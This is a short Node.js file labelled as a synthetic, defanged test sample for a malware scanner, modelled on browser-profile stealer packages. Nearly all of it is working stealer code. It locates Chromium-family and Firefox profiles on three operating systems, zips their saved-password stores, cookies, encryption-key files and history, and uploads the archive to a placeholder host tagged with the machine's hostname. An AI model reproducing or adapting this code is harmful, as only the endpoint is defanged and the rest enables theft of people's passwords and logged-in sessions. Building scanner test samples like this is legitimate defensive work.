// SYNTHETIC, DEFANGED malwi validation sample - modelled on browser-profile stealer packages (2020-2025); never run.
// Zip the saved-password, cookie and key files of every Chromium and Firefox profile and upload.
const fs = require('fs');
const os = require('os');
const path = require('path');
const AdmZip = require('adm-zip');
const https = require('https');

const home = os.homedir();
const local = process.env.LOCALAPPDATA || path.join(home, 'AppData', 'Local');
const roaming = process.env.APPDATA || path.join(home, 'AppData', 'Roaming');
const chromium = {
  win32: {
    chrome: path.join(local, 'Google', 'Chrome', 'User Data'),
    edge: path.join(local, 'Microsoft', 'Edge', 'User Data'),
    brave: path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data')
  },
  darwin: {
    chrome: path.join(home, 'Library', 'Application Support', 'Google', 'Chrome'),
    brave: path.join(home, 'Library', 'Application Support', 'BraveSoftware', 'Brave-Browser')
  },
  linux: { chrome: path.join(home, '.config', 'google-chrome'), chromium: path.join(home, '.config', 'chromium') }
}[process.platform] || {};
const firefox = process.platform === 'win32' ? path.join(roaming, 'Mozilla', 'Firefox', 'Profiles') : path.join(home, '.mozilla', 'firefox');

const zip = new AdmZip();
for (const [name, root] of Object.entries(chromium)) {
  if (!fs.existsSync(root)) continue;
  const ls = path.join(root, 'Local State');
  if (fs.existsSync(ls)) zip.addLocalFile(ls, name);
  for (const prof of fs.readdirSync(root).filter((p) => p === 'Default' || p.startsWith('Profile '))) {
    for (const f of ['Login Data', 'Cookies', 'Network/Cookies', 'Web Data', 'History']) {
      const p = path.join(root, prof, f);
      if (fs.existsSync(p)) zip.addLocalFile(p, path.join(name, prof));
    }
  }
}
if (fs.existsSync(firefox)) {
  for (const prof of fs.readdirSync(firefox)) {
    for (const f of ['logins.json', 'key4.db', 'cookies.sqlite']) {
      const p = path.join(firefox, prof, f);
      if (fs.existsSync(p)) zip.addLocalFile(p, path.join('firefox', prof));
    }
  }
}

const req = https.request({ hostname: 'upload.example.invalid', path: '/api/upload?id=' + os.hostname(), method: 'POST', headers: { 'Content-Type': 'application/zip' } });
req.on('error', () => {});
req.end(zip.toBuffer());
